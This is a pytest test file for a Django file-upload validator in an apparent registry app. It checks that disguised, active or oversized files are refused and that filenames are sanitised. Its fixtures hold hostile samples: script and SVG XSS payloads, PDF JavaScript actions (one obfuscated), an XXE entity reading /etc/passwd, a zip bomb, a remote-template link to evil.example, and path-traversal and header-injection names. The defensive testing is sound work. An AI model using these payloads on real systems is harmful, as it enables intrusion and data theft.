"""Files that are not what they seem: refused, or kept so that they cannot act."""

import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as node
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from docx import Document
from openpyxl import Workbook

from landbridge.registry import files
from landbridge.registry.copies import begin, finish
from landbridge.registry.models import StoredFile
from landbridge.registry.sniffing import Refused
from landbridge.registry.unnamed import ForgetFiles
from landbridge.registry.workflow import Verb
from tests.cast import Cast, assemble

pytestmark = pytest.mark.once  # Files are looked into before the database hears of them.

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
EMPTY = b"PK\x05\x06" + b"\x00" * 18
SCRIPT = b"<html><script>alert(1)</script></html>"


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*more: bytes, width: int = 1, height: int = 1) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def jpeg(*segments: bytes) -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34"
    return b"\xff\xd8" + b"".join(segments) + frame + scan + b"\xff\xd9"


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def exif(orientation: int) -> bytes:
    entries = struct.pack("<HHIHH", 0x0112, 3, 1, orientation, 0) + struct.pack("<HHII", 0x8825, 4, 1, 26)
    return segment(0xE1, b"Exif\x00\x00II\x2a\x00" + struct.pack("<IH", 8, 2) + entries + b"GPS-17.7,178.1")


def document() -> bytes:
    made = io.BytesIO()
    words = Document()
    words.add_paragraph("Reef")
    words.save(made)
    return made.getvalue()


def workbook() -> bytes:
    made = io.BytesIO()
    Workbook().save(made)
    return made.getvalue()


def rezipped(source: bytes, **parts: bytes) -> bytes:
    """An office document with parts changed or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename not in parts:
                new.writestr(part, old.read(part))
        for name, body in parts.items():
            new.writestr(name, body)
    return made.getvalue()


def with_relation(kind: str) -> bytes:
    relation = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="http://x/relationships/{kind}" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezipped(document(), **{"word/_rels/settings.xml.rels": relation.encode()})


GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("Report.PDF", PDF), "docx": ("r.docx", document()), "xlsx": ("r.xlsx", workbook()),
    "png": ("r.png", png()), "jpeg": ("r.jpg", jpeg()), "csv": ("r.csv", "a;b\nاسم;1\n".encode()),
    "txt": ("r.txt", "Récif\n".encode()), "hyperlink": ("r.docx", with_relation("hyperlink")),
}  # fmt: skip
BAD: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("r.pdf", b"", "empty"),
    "a page": ("r.html", SCRIPT, "unknown-kind"),
    "a page called text": ("r.txt", SCRIPT, "active"),
    "a drawing": ("r.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown-kind"),
    "a drawing called csv": ("r.csv", b"\n <svg onload=alert(1)>", "active"),
    "a program": ("r.exe", b"MZ\x90\x00", "unknown-kind"),
    "a program called pdf": ("r.pdf", b"MZ\x90\x00", "unknown-kind"),
    "a pdf called png": ("r.png", PDF, "wrong-ending"),
    "a png called jpg": ("r.jpg", png(), "wrong-ending"),
    "a docx called xlsx": ("r.xlsx", document(), "wrong-ending"),
    "a docx called docm": ("r.docm", document(), "wrong-ending"),
    "a double ending": ("r.pdf.html", PDF, "wrong-ending"),
    "a pdf behind a page": ("r.pdf", SCRIPT + PDF, "unknown-kind"),
    "a page behind a pdf": ("r.pdf", PDF + SCRIPT, "two-things"),
    "an archive behind a pdf": ("r.pdf", PDF + document(), "two-things"),
    "a pdf that runs": ("r.pdf", PDF.replace(b"/Type/Catalog", b"/OpenAction<</S/JavaScript/JS(alert(1))>>"), "active"),
    "a pdf that hides that it runs": ("r.pdf", PDF.replace(b"/Type/Catalog", b"/S/J#61vaScript"), "active"),
    "a page behind a png": ("r.png", png() + SCRIPT, "two-things"),
    "an archive behind a png": ("r.png", png() + document(), "two-things"),
    "a page behind a jpeg": ("r.jpg", jpeg() + SCRIPT, "two-things"),
    "a broken png": ("r.png", png()[:-6], "damaged"),
    "a png as large as a town": ("r.png", png(width=60_000, height=60_000), "too-large"),
    "a jpeg without an end": ("r.jpg", jpeg()[:-2], "damaged"),
    "a picture before an archive": ("r.docx", png() + document(), "wrong-ending"),
    "words before an archive": ("r.docx", b"PK\x03\x04junk" + document(), "two-things"),
    "an archive that is no document": ("r.docx", rezipped(EMPTY, **{"a.txt": b"x"}), "unknown-kind"),
    "macros": ("r.docx", rezipped(document(), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    "an object inside": ("r.docx", rezipped(document(), **{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "macros"),
    "a program inside": ("r.xlsx", rezipped(workbook(), **{"xl/media/image1.png": b"MZ\x90"}), "unsafe-archive"),
    "an archive inside": ("r.xlsx", rezipped(workbook(), **{"xl/media/inner.zip": document()}), "unsafe-archive"),
    "entities": ("r.docx", rezipped(document(), **{
        "word/document.xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    }), "unsafe-archive"),
    "a bomb": ("r.xlsx", rezipped(workbook(), **{"xl/worksheets/sheet2.xml": b" " * 160_000_000}), "unsafe-archive"),
    "a template from elsewhere": ("r.docx", with_relation("attachedTemplate"), "active"),
    "a picture from elsewhere": ("r.docx", with_relation("image"), "active"),
    "text in another encoding": ("r.txt", "Récif".encode("latin-1"), "not-text"),
    "bytes called text": ("r.csv", b"a\x00b", "not-text"),
}  # fmt: skip


@pytest.fixture
def cast(db: None) -> Cast:
    return assemble()


@pytest.fixture
def losa(cast: Cast, searchable: None) -> Client:
    client = Client(headers={"host": "localhost", "accept-language": "en"})
    client.force_login(cast.losa.account)
    return client


@pytest.fixture(autouse=True)
def folder(tmp_path: Path) -> Any:
    with override_settings(MEDIA_ROOT=tmp_path):
        yield tmp_path


def keep(cast: Cast, name: str, body: bytes) -> files.Kept:
    return files.keep(actor=cast.losa.actor, name=name, chunks=[body[:7], body[7:]])


@pytest.mark.parametrize("which", GOOD)
def test_plain_files_are_kept(cast: Cast, which: str) -> None:
    name, body = GOOD[which]
    kept = keep(cast, name, body)
    assert kept.path.is_file() and kept.path.stat().st_size == kept.size
    assert keep(cast, name, body).sha256 == kept.sha256
    assert StoredFile.objects.count() == 1


@pytest.mark.parametrize("which", BAD)
def test_files_that_seem_are_refused(cast: Cast, folder: Path, which: str) -> None:
    name, body, code = BAD[which]
    with pytest.raises(Refused) as refused:
        keep(cast, name, body)
    assert refused.value.code == code
    assert not [path for path in folder.rglob("*") if path.is_file()]


def test_what_is_too_large_is_not_even_stored(cast: Cast, folder: Path) -> None:
    def endless() -> Any:
        while True:
            yield b"%PDF-" + b"0" * 1_000_000

    with pytest.raises(Refused) as refused:
        files.keep(actor=cast.losa.actor, name="r.pdf", chunks=endless())
    assert refused.value.code == "too-large"
    assert not list(folder.iterdir())


def test_nobody_fills_the_disk(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MOST_A_DAY", len(PDF))
    keep(cast, "a.pdf", PDF)
    keep(cast, "b.txt", b"b")
    with pytest.raises(Refused) as refused:
        keep(cast, "c.txt", b"c")
    assert refused.value.code == "too-much"
    files.keep(actor=cast.priya.actor, name="c.txt", chunks=[b"c"])


def test_pictures_lose_what_they_carry_along(cast: Cast) -> None:
    comment = chunk(b"tEXt", b"Comment\x00" + SCRIPT)
    body = keep(cast, "r.png", png(comment, chunk(b"eXIf", b"GPS"))).path.read_bytes()
    assert SCRIPT not in body and b"GPS" not in body and body == png()
    noted = jpeg(segment(0xE0, b"JFIF\x00"), exif(6), segment(0xFE, SCRIPT), segment(0xED, b"place"))
    body = keep(cast, "r.jpg", noted).path.read_bytes()
    assert b"GPS" not in body and SCRIPT not in body and b"place" not in body
    assert b"Exif\x00\x00MM" in body and struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0) in body
    assert body.endswith(b"\x12\xff\x00\x34\xff\xd9")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "etc passwd.pdf"), ("a\x00b\r\nSet-Cookie: x.pdf", "a b Set-Cookie x.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"), ('"><script>.pdf', "script.pdf"), ("", "file"), ("..", "file"),
        ("x" * 400 + ".pdf", "x" * 150 + ".pdf"), ("تقرير.pdf", "تقرير.pdf"),
    ],
)  # fmt: skip
def test_names_cannot_say_anything_else(given: str, kept: str) -> None:
    assert files.safe_name(given) == kept


def status(client: Client, address: str) -> int:
    answer: Any = client.get(address)
    if answer.streaming:
        b"".join(answer.streaming_content)  # Only then is the file closed.
    return int(answer.status_code)


def upload(client: Client, address: str, name: str, body: bytes, **more: str) -> Any:
    sent = {"_do": "upload:files", "_section": "more", "files": "", "files.new": SimpleUploadedFile(name, body)}
    return client.post(address, {**sent, "files.new.alt": "What it shows", **more})


def test_a_file_goes_with_its_record(losa: Client, cast: Cast) -> None:
    copy = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="", answers={
        "title": {"en": "Reef"}, "summary": {"en": "Count"},
    })  # fmt: skip
    address = f"/write/{copy.id}"
    assert upload(losa, address, "Report \u202e«é».pdf", PDF).status_code == 302
    copy.refresh_from_db()
    sha256 = copy.answers["files"][0]["sha256"]
    assert status(losa, f"{address}/files/{sha256}") == 200
    record = finish(actor=cast.losa.actor, copy_id=copy.id, verb=Verb.PUBLISH)
    stranger = Client(headers={"host": "localhost"})
    answer = stranger.get(f"/records/{record.id}/files/{sha256}")
    assert b"".join(answer.streaming_content) == PDF  # type: ignore[attr-defined]
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="Report')
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    page = stranger.get(f"/records/{record.id}").content.decode()
    assert f"/records/{record.id}/files/{sha256}" in page and "What it shows" in page
    assert status(stranger, f"/records/{record.id}/files/{'0' * 64}") == 404


def test_a_withheld_or_hidden_file_is_for_nobody_else(losa: Client, cast: Cast) -> None:
    kept = keep(cast, "r.pdf", PDF)
    file = kept.answer("x", "")
    said = {"title": {"en": "Reef"}, "summary": {"en": "Count"}, "files": [file]}
    withheld = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="",
                     answers={**said, "withheld": ["files"], "disclosed_to": ["navakavu"]})  # fmt: skip
    private = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="", answers=said,
                    visibility="private")  # fmt: skip
    draft = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="", answers=said)
    ids = [
        finish(actor=cast.losa.actor, copy_id=copy.id, verb=verb).id
        for copy, verb in ((withheld, Verb.PUBLISH), (private, Verb.PUBLISH), (draft, Verb.DRAFT))
    ]
    for record in ids:
        address = f"/records/{record}/files/{kept.sha256}"
        assert status(losa, address) == 200
        for person in (None, cast.sven, cast.priya):
            client = Client(headers={"host": "localhost"})
            if person:
                client.force_login(person.account)
            assert status(client, address) == 404
    malia = Client(headers={"host": "localhost"})
    malia.force_login(cast.malia.account)
    assert status(malia, f"/records/{ids[0]}/files/{kept.sha256}") == 200


def test_nobody_attaches_a_file_of_somebody_else_by_its_digest(losa: Client, cast: Cast) -> None:
    kept = files.keep(actor=cast.priya.actor, name="r.pdf", chunks=[PDF])
    copy = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", answers={}, title="")
    row = {"files.0.sha256": kept.sha256, "files.0.name": "r.pdf", "files": ["", kept.sha256]}
    losa.post(f"/write/{copy.id}", row)
    losa.post(f"/write/{copy.id}/autosave", row)
    losa.post(f"/write/{copy.id}/choose", {"_mine": f'{{"files": [{{"sha256": "{kept.sha256}"}}]}}'})
    copy.refresh_from_db()
    assert not copy.answers.get("files")
    assert status(losa, f"/write/{copy.id}/files/{kept.sha256}") == 404


def test_a_refused_file_loses_no_words(losa: Client, cast: Cast) -> None:
    copy = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", answers={}, title="")
    answer = upload(losa, f"/write/{copy.id}", "r.html", SCRIPT, **{"links.0.url": "https://example.org"})
    assert "not taken" in losa.get(answer.headers["Location"].partition("#")[0]).content.decode()
    copy.refresh_from_db()
    assert copy.answers["links"] == [{"url": "https://example.org"}]
    large = PDF + b"0" * (files.LARGEST + 10)
    answer = upload(losa, f"/write/{copy.id}", "r.pdf", large, **{"links.0.url": "https://example.net"})
    assert "20 MB" in losa.get(answer.headers["Location"].partition("#")[0]).content.decode()
    copy.refresh_from_db()
    assert copy.answers["links"] == [{"url": "https://example.net"}]


def test_a_file_needs_a_text_for_those_who_cannot_see_it(losa: Client, cast: Cast) -> None:
    copy = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="", answers={
        "title": {"en": "Reef"}, "summary": {"en": "Count"}, "files": [keep(cast, "r.pdf", PDF).answer("", "")],
    })  # fmt: skip
    answer = losa.post(f"/write/{copy.id}/finish", {"_do": "publish"})
    assert answer.status_code == 422 and "cannot see it" in answer.content.decode()
    assert node.FILE_UPLOAD_HANDLERS[0].endswith("LimitedUpload")


def test_files_that_nobody_names_go_after_a_month(cast: Cast) -> None:
    """The one in a draft and the one in a record stay, whatever their age."""
    kept = {name: keep(cast, f"{name}.txt", name.encode()) for name in ("draft", "record", "nobody", "fresh")}
    StoredFile.objects.exclude(pk=kept["fresh"].sha256).update(at=datetime.now(UTC) - timedelta(days=40))
    said = {"title": {"en": "Reef"}, "summary": {"en": "Count"}}
    for name in ("draft", "record"):
        answers = {**said, "files": [kept[name].answer("x", "")]}
        copy = begin(actor=cast.losa.actor, format="need", language="en", owner="FJI", title="", answers=answers)
        if name == "record":
            finish(actor=cast.losa.actor, copy_id=copy.id, verb=Verb.PUBLISH)
    ForgetFiles().run(datetime.now(UTC))
    assert {name for name, one in kept.items() if one.path.exists()} == {"draft", "record", "fresh"}
    assert StoredFile.objects.count() == 3
